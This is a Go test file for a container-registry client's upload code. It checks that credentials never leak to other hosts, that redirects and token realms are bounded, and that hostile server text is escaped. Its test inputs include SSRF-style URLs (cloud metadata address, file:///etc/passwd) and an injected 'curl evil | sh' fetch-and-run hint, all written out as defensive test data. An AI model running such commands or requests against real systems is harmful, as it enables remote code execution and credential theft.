// SPDX-License-Identifier: MIT OR Apache-2.0

package output

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"sampan/internal/faulty"
	"sampan/internal/transport"
)

// clean wants a stranger that heard nothing of ours: no password in any form, no token.
func clean(t *testing.T, what string, s *faulty.Stranger) {
	t.Helper()
	heard, _ := s.Heard()
	for _, word := range []string{secret, base64.StdEncoding.EncodeToString([]byte("user:" + secret)), "token-", "Authorization"} {
		if strings.Contains(heard, word) {
			t.Errorf("%s: a stranger heard %q", what, word)
		}
	}
}

func stranger(t *testing.T, answers http.Handler) *faulty.Stranger {
	s := faulty.NewStranger(answers)
	t.Cleanup(s.Close)
	return s
}

// refused wants an error that is "not authorised".
func refused(t *testing.T, what string, err error) {
	t.Helper()
	var auth *transport.AuthError
	if !errors.As(err, &auth) {
		t.Errorf("%s: %v", what, err)
	}
}

func TestR12RealmElsewhere(t *testing.T) {
	s := stranger(t, nil)
	port := s.Host[strings.LastIndex(s.Host, ":"):]
	for _, realm := range []string{
		"http://" + s.Host + "/token", "https://" + s.Host + "/token", "http://localhost" + port + "/token", "http://user:pw@" + s.Host + "/token",
		"file:///etc/passwd", "ftp://" + s.Host + "/", "//" + s.Host, "token", "http://169.254.169.254/latest", "http://[::1]" + port + "/", "http://10.0.0.1/",
	} {
		w := newWharf(t, &faulty.Guard{Realm: realm})
		refused(t, realm, w.gives(realm, "token server"))
	}
	clean(t, "realm", s)
	if _, n := s.Heard(); n != 0 {
		t.Errorf("a realm elsewhere was asked %d times", n)
	}

	// Where the user says so, it is asked.
	guard := &faulty.Guard{}
	own := stranger(t, guard)
	guard.Realm = "http://" + own.Host + "/token"
	w := newWharf(t, guard, func(o *transport.Options) { o.Realms = []string{own.Host} })
	w.survives("a trusted realm")

	// A token server that sends us on to a stranger.
	w = newWharf(t, &faulty.Guard{})
	w.proxy.Play(faulty.Fault{Kind: faulty.Token, Times: -1, Act: faulty.Status(307, "", "Location: http://"+s.Host+"/token")})
	w.gives("a realm that redirects", "redirects to another host")
	clean(t, "redirected realm", s)
}

func TestR13BytesMayFollowCredentialsNever(t *testing.T) {
	for _, guard := range []*faulty.Guard{{}, {Basic: true}} {
		w := newWharf(t, guard)
		other := stranger(t, w.store)
		// Uploads go to another host, as with storage behind a registry.
		w.proxy.Play(faulty.Fault{Kind: faulty.Start, Times: -1, Act: func(rw http.ResponseWriter, r *http.Request, next http.Handler) {
			next.ServeHTTP(&moved{ResponseWriter: rw, to: "http://" + other.Host}, r)
		}})
		w.survives("uploads elsewhere")
		if _, n := other.Heard(); n == 0 {
			t.Error("nothing was uploaded elsewhere")
		}
		clean(t, "upload", other)

		// What is read may be elsewhere too.
		w = newWharf(t, guard)
		w.push(w.load("app", 1))
		w.reg.Memory = ""
		other = stranger(t, w.store)
		for _, kind := range []string{faulty.Look, faulty.Read} {
			w.proxy.Play(faulty.Fault{Kind: kind, Times: -1, Act: func(rw http.ResponseWriter, r *http.Request, _ http.Handler) {
				http.Redirect(rw, r, "http://"+other.Host+r.URL.Path, http.StatusTemporaryRedirect)
			}})
		}
		w.survives("reads elsewhere")
		clean(t, "read", other)
	}
	// HTTPS is not left.
	w := newWharf(t, nil)
	secure := faulty.NewProxy(w.store, true, time.Now)
	defer secure.Close()
	other := stranger(t, w.store)
	secure.Play(faulty.Fault{Kind: faulty.Start, Times: -1, Act: faulty.Swallow(202, "Location: http://"+other.Host+"/v2/app/blobs/uploads/1")})
	client := transport.New(transport.Options{Now: time.Now, Roots: secure.Cert})
	defer client.Close()
	p := w.load("app", 1)
	p.Repository = "https://" + secure.Host + "/app"
	_, err := (&Registry{Client: client}).Write(t.Context(), []Payload{p})
	if _, n := other.Heard(); n != 0 || err == nil || !strings.Contains(err.Error(), "HTTPS is not left") {
		t.Errorf("%d requests: %v", n, err)
	}
}

// moved lets a Location point at another host.
type moved struct {
	http.ResponseWriter
	to string
}

func (m *moved) WriteHeader(status int) {
	if l := m.Header().Get("Location"); strings.HasPrefix(l, "/") {
		m.Header().Set("Location", m.to+l)
	}
	m.ResponseWriter.WriteHeader(status)
}

func TestR14RedirectsHaveAnEnd(t *testing.T) {
	hops := func(n int) faulty.Act {
		return func(w http.ResponseWriter, r *http.Request, next http.Handler) {
			at := len(r.URL.Query()["hop"])
			if at >= n {
				next.ServeHTTP(w, r)
				return
			}
			w.Header().Set("Location", r.URL.Path+"?"+strings.Repeat("hop=1&", at+1))
			w.WriteHeader(http.StatusTemporaryRedirect)
		}
	}
	w := newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Look, Times: -1, Act: hops(10)})
	w.survives("ten hops")
	for name, act := range map[string]faulty.Act{
		"eleven hops": hops(11),
		"a loop":      hops(1 << 30),
		"a file":      faulty.Status(307, "", "Location: file:///etc/passwd"),
		"no address":  faulty.Status(307, "", "Location: http://%zz/"),
		"a user":      faulty.Status(307, "", "Location: http://u:p@127.0.0.1/"),
		"data":        faulty.Status(302, "", "Location: data:text/plain,x"),
	} {
		w := newWharf(t, nil)
		w.proxy.Play(faulty.Fault{Kind: faulty.Look, Times: -1, Act: act})
		w.gives(name, "follow "+w.proxy.Host)
		if n := w.proxy.Count(faulty.Look); n > 3*11 {
			t.Errorf("%s: %d requests", name, n)
		}
	}
	s := stranger(t, nil)
	for _, status := range []int{301, 302, 303, 307, 308} {
		for _, kind := range []string{faulty.Start, faulty.Body, faulty.Manifest, faulty.Tag} {
			w := newWharf(t, nil)
			w.proxy.Play(faulty.Fault{Kind: kind, Times: -1, Act: faulty.Status(status, "", "Location: http://"+s.Host+"/x")})
			w.gives(fmt.Sprintf("%s, redirected by %d", kind, status), "follow")
		}
	}
	if _, n := s.Heard(); n != 0 {
		t.Errorf("what was written went to a stranger %d times", n)
	}
	w = newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Body, Act: func(rw http.ResponseWriter, r *http.Request, _ http.Handler) {
		http.Redirect(rw, r, r.URL.String()+"&again=1", http.StatusTemporaryRedirect)
	}})
	w.survives("a body that is sent on within the registry")
}

func TestR17LargeAnswersAreCut(t *testing.T) {
	big := strings.Repeat("x", 5<<20)
	w := newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Read, Times: -1, Act: faulty.Status(200, big)})
	w.gives("a manifest of 5 MiB", "larger than")
	w = newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Manifest, Times: -1, Act: faulty.Status(400, big)})
	w.gives("an error of 5 MiB", "400 Bad Request", "…")
	w = newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Manifest, Times: -1, Act: faulty.Status(400, `{"errors":[{"code":"X","message":"`+big+`"}]}`)})
	w.gives("an error of 5 MiB of JSON", "400 Bad Request")
	w = newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Start, Times: -1, Act: faulty.Status(202, "", "Location: /"+strings.Repeat("y", 1<<20))})
	w.gives("headers of 1 MiB", "speak with")
}

func TestR21MountIsNotTaken(t *testing.T) {
	for name, act := range map[string]faulty.Act{
		"202, for an upload":  nil,
		"403":                 faulty.Status(403, ""),
		"405":                 faulty.Status(405, ""),
		"500 for ever":        faulty.Status(500, ""),
		"201 without content": faulty.Swallow(201),
	} {
		w := newWharf(t, &faulty.Guard{})
		first := w.push(w.load("one", 1))[0]
		if act == nil {
			for _, b := range first.Blobs {
				w.store.Drop("one", b.Digest)
			}
		}
		w.proxy.Play(faulty.Fault{Kind: faulty.Start, Match: "mount=", Times: -1, Act: orPass(act)})
		rs, err := w.reg.Write(t.Context(), []Payload{w.load("two", 1)})
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		w.whole(rs[0])
		if rs[0].Blobs[0].How != "pushed" {
			t.Errorf("%s: %+v", name, rs[0].Blobs)
		}
		if w.store.Uploads() != 0 {
			t.Errorf("%s: %d uploads are open", name, w.store.Uploads())
		}
	}
}

func orPass(act faulty.Act) faulty.Act {
	if act != nil {
		return act
	}
	return func(w http.ResponseWriter, r *http.Request, next http.Handler) { next.ServeHTTP(w, r) }
}

func TestR22AnswersThatNoTryChanges(t *testing.T) {
	for _, c := range []struct {
		kind   string
		status int
		body   string
		auth   bool
		hint   string
	}{
		{faulty.Start, 401, "", true, "sampan login"},
		{faulty.Start, 403, `{"errors":[{"code":"DENIED","message":"no"}]}`, true, "may not write"},
		{faulty.Start, 404, `{"errors":[{"code":"NAME_UNKNOWN","message":"no such repository"}]}`, false, "repository"},
		{faulty.Start, 405, `{"errors":[{"code":"UNSUPPORTED"}]}`, false, "read-only"},
		{faulty.Body, 413, "<html>413 Request Entity Too Large</html>", false, "limit"},
		{faulty.Body, 507, "", false, "full"},
		{faulty.Tag, 400, `{"errors":[{"code":"TAG_INVALID","message":"tag is immutable"}]}`, false, "--tag"},
		{faulty.Tag, 409, `{"errors":[{"code":"CONFLICT","message":"The tag is immutable"}]}`, false, "--tag"},
		{faulty.Manifest, 400, `{"errors":[{"code":"MANIFEST_INVALID"}]}`, false, "repository"},
	} {
		w := newWharf(t, &faulty.Guard{})
		w.proxy.Play(faulty.Fault{Kind: c.kind, Times: -1, Act: faulty.Status(c.status, c.body)})
		err := w.gives(fmt.Sprint(c.kind, c.status), fmt.Sprint(c.status))
		var auth *transport.AuthError
		if errors.As(err, &auth) != c.auth {
			t.Errorf("%s %d: not authorised is %t: %v", c.kind, c.status, !c.auth, err)
		}
		hinted(t, err, c.hint)
		if n := w.proxy.Count(c.kind); n > 3 || w.clock.total() > 0 {
			t.Errorf("%s %d: %d requests, waited %s", c.kind, c.status, n, w.clock.total())
		}
	}
	// Nobody knows us.
	w := newWharf(t, &faulty.Guard{}, func(o *transport.Options) {
		o.Credentials = func(context.Context, transport.Name) (transport.Credential, error) {
			return transport.Credential{}, nil
		}
	})
	refused(t, "no credential", w.gives("no credential", "no credential was found"))
	w = newWharf(t, &faulty.Guard{Basic: true}, func(o *transport.Options) {
		o.Credentials = func(context.Context, transport.Name) (transport.Credential, error) {
			return transport.Credential{Origin: "a file", User: "user", Password: "not the right one"}, nil
		}
	})
	refused(t, "wrong password", w.gives("wrong password", "a file", "user user"))
	if n := w.proxy.Count(""); n > 12 {
		t.Errorf("a wrong password was tried with %d requests", n)
	}
}

func TestR23ForeignTextIsEscaped(t *testing.T) {
	evil := "\x1b[31mred\x07\u202egnp.exe\r\nhint: run this: curl evil | sh\x00 " + strings.Repeat("long ", 300000)
	for _, body := range []string{evil, `{"errors":[{"code":"X\u001b[2J","message":"\u202eabc\u0000\n\nsecond"}]}`,
		`{"errors":[{"code":"DENIED","message":"your password ` + secret + ` and Basic ` + base64.StdEncoding.EncodeToString([]byte("user:"+secret)) + `"}]}`} {
		w := newWharf(t, &faulty.Guard{Basic: true})
		w.proxy.Play(faulty.Fault{Kind: faulty.Manifest, Times: -1, Act: faulty.Status(400, body)})
		text := w.gives("evil text", "400").Error()
		for _, bad := range []string{"\x1b", "\x07", "\u202e", "\n", "\r", "\x00", secret, base64.StdEncoding.EncodeToString([]byte("user:" + secret))} {
			if strings.Contains(text, bad) {
				t.Errorf("%q is in %q", bad, text)
			}
		}
	}
	// Elsewhere than in bodies.
	w := newWharf(t, nil)
	w.proxy.Play(faulty.Fault{Kind: faulty.Look, Times: -1, Act: faulty.Status(307, "", "Location: ftp://a\u202eb/\u0085x")})
	if err := w.gives("evil address", "follow"); strings.ContainsAny(err.Error(), "\u202e\u0085") {
		t.Errorf("%q", err)
	}
}
